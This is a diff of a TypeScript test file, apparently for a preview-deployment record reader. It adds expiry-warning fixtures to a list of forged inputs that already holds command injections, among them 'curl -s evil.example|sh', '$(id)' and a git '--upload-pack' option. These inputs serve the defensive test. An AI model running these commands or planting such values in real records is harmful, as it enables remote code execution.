@@ -18,6 +18,12 @@ const [deploy] = record.deploys;
 const stored = (body: string): Answer => ({ body, headers: { etag: '"e1"', 'content-type': 'application/json' } });
 const secret = 'arn:aws:secretsmanager:eu-central-1:111122223333:secret:copy-a1B2c3';
 
+const warning = {
+  at: '2026-11-30T00:00:00Z',
+  goesAt: '2026-12-01T00:00:00Z',
+  said: ['comment', 'chat'],
+} as const;
+
 /** What a job of any branch could write into the record of any preview. */
 const forged: readonly (readonly [string, object])[] = [
   ['a commit that is an option of git', { commit: '--upload-pack=touch' }],
@@ -68,6 +74,9 @@ const forged: readonly (readonly [string, object])[] = [
   ['a user of a snapshot with a quote', { snapshot: { id: 'shop-1', username: "shop'" } }],
   ['a promise without an end', { keepUntil: '+275760-09-13T00:00:00.000Z' }],
   ['a promise in words', { keepUntil: '1 January 2099' }],
+  ['a warning in words', { expiryWarning: { at: 'now', goesAt: '2026-12-01T00:00:00Z', said: [] } }],
+  ['a warning in a place that is none', { expiryWarning: { ...warning, said: ['<b>'] } }],
+  ['a warning in a hundred places', { expiryWarning: { ...warning, said: Array(100).fill('chat') } }],
   ['a dropped property that is a command', { dropped: { 'shop-x--web': ['plain X;curl -s evil.example|sh'] } }],
   ['a dropped property with a substitution', { dropped: { 'shop-x--web': ['plain $(id)'] } }],
   ['a dropped property with a second line', { dropped: { 'shop-x--web': ['plain X\nY'] } }],
@@ -102,6 +111,7 @@ test('what our own deploys write is read', async () => {
     },
     platformNames: { web: 'nodejs-22' },
     snapshot: { id: 'rds:shop-2026-11-21-03-10', credentials: secret, newestOf: 'shop' },
+    expiryWarning: warning,
   };
   const back = { from: 'e'.repeat(40), to: record.commit, services: ['web'] };
   const deployed = {
